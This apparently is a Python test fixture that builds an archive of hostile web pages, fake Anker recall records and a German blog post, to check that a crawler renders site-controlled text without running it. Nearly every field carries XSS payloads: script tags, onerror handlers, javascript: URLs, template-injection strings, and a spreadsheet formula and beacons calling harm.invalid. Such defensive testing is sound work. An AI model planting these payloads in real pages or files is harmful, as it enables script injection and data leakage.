"""Pages that try to do harm, as an archive that the real spiders read: ``python -m tests.browser.hostile OUT.warc.gz``.

Each text that a site controls carries script, handlers, addresses that run, cells that a
spreadsheet would run, marks that turn the direction of writing, or is a megabyte long.
Whatever of it is run says so by the name ``harmed``: an alert, a property of the window,
or a request to ``harm.invalid``.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

from tests.web import build
from tests.web.build import Answer

SCRIPT = "<script>window.harmed = 1; alert('harmed')</script>"
HANDLER = '"><img src=x onerror="window.harmed=1;alert(\'harmed\')"><svg onload=alert(1)>'
ADDRESS = "javascript:window.harmed=1;alert('harmed')//A1263"
FORMULA = '=HYPERLINK("https://harm.invalid/?"&A1;"click")'
TEMPLATE = "{{ 7*7 }}{% for x in y %}</title></style></textarea>--><!--]]>"
BEACON = '<link rel=stylesheet href="https://harm.invalid/x.css"><iframe src="https://harm.invalid/"></iframe>'
TURNED = "\u202eevil\u202c\u2066"
ENDLESS = "due to fire and burn hazards " * 38_000  # more than a megabyte

#: What a page would show of the worst of it, as text: the words themselves, not what they would do.
SHOWN = "window.harmed = 1"
SALES = "Online at Amazon.com from May 2020 through December 2022 for about $30."


def records() -> Iterator[dict[str, Any]]:
    """Recalls of the CPSC: one for each field that a page shows, and one with a title of a megabyte."""
    yield _record(
        "66601",
        Title=f"Anker Recalls PowerCore 10000 {SCRIPT}{HANDLER}{TEMPLATE}",
        URL=ADDRESS,
        Description=f"Model number A1263. {SCRIPT} {BEACON} {FORMULA} {TURNED}",
        Products=[{"Name": f"Anker PowerCore 10000 {HANDLER}", "Model": "A1263", "NumberOfUnits": "About 1,158,000"}],
        Hazards=[{"Name": f"The battery can overheat, posing a fire hazard. {SCRIPT}{HANDLER}"}],
        Importers=[{"Name": f"{FORMULA} Anker {SCRIPT}"}],
        Retailers=[{"Name": f"{HANDLER} {SALES}"}],
        Images=[{"URL": ADDRESS, "Caption": HANDLER}],
    )
    yield _record(
        "66602",
        Title=f"Anker Recalls PowerCore A1263 {ENDLESS}",
        URL=f"https://www.cpsc.gov/Recalls/{HANDLER}",
        Description=f"Model A1263 {FORMULA}",
        Products=[{"Name": FORMULA + " Anker PowerCore 10000", "Model": "A1263", "NumberOfUnits": "About 69,000"}],
    )
    yield _record(
        "66603",
        RecallDate="2026-05-02T00:00:00",
        Title="Anker Recalls Soundcore 3 Bluetooth Speakers Due to Fire Hazard",
        URL="data:text/html,<script>alert('harmed')</script>",
        Description=f"Soundcore 3, model A3117. {TURNED}" + "x" * 20_000,
        Products=[{"Name": "Soundcore 3" + "W" * 3_000, "Model": "A3117", "NumberOfUnits": "-1 or =1+1"}],
    )


def _record(number: str, **given: Any) -> dict[str, Any]:
    told: dict[str, Any] = {
        "RecallID": int(f"9900{number}"),
        "RecallNumber": number,
        "RecallDate": "2026-04-01T00:00:00",
        "ConsumerContact": HANDLER,
        "LastPublishDate": None,
        "Inconjunctions": [{"URL": ADDRESS}],
        "Images": [],
        "Injuries": [{"Name": f"Anker has received 19 reports of fires. {HANDLER}"}],
        "Manufacturers": [],
        "Retailers": [{"Name": SALES, "CompanyID": ""}],
        "Importers": [{"Name": "Anker", "CompanyID": ""}],
        "Distributors": [],
        "SoldAtLabel": None,
        "ManufacturerCountries": [],
        "ProductUPCs": [{"UPC": HANDLER}],
        "Hazards": [{"Name": "The lithium-ion battery can overheat, posing a fire hazard."}],
        "Remedies": [{"Name": f"Consumers should stop using the power banks and ask Anker for a refund. {SCRIPT}"}],
        "RemedyOptions": [{"Option": "Refund"}],
    }
    return {**told, **given}


def post() -> dict[str, Any]:
    """A post of a blog whose markup is meant to run where it is shown."""
    text = (
        f"<p onclick=\"alert('harmed')\">In Japan ruft Anker die Soundcore 3 (A3117) zurück. {SCRIPT}{HANDLER}</p>"
        f"<p>&lt;script&gt;window.harmed = 1&lt;/script&gt; {FORMULA} {BEACON}</p>"
        "<p>Chargen für Europa sind nicht betroffen, teilt Anker &lt;b onmouseover=alert(1)&gt;mit&lt;/b&gt;.</p>"
        f'<p><a href="{ADDRESS}">Zum Rückruf</a></p>'
    )
    return {
        "id": 666001,
        "date": "2026-04-02T12:00:00",
        "date_gmt": "2026-04-02T10:00:00",
        "modified": None,
        "modified_gmt": None,
        "link": ADDRESS,
        "title": {"rendered": f"Rückruf bei Anker: Soundcore 3 &lt;script&gt;alert('harmed')&lt;/script&gt;{SCRIPT}"},
        "content": {"rendered": text, "protected": False},
        "excerpt": {"rendered": SCRIPT, "protected": False},
    }


def pages() -> Iterator[Answer]:
    """The answers of the two sources with those records in the place of their own."""
    bodies = {
        "us-cpsc": json.dumps(list(records()), ensure_ascii=False),
        "de-appgefahren": json.dumps([post()], ensure_ascii=False),
    }
    for source, body in bodies.items():
        for answer in build.answers(source):
            yield answer if answer.address.endswith("/robots.txt") else replace(answer, body=body.encode())


def main(out: str) -> None:
    build.write(Path(out), pages())


if __name__ == "__main__":
    main(*sys.argv[1:])
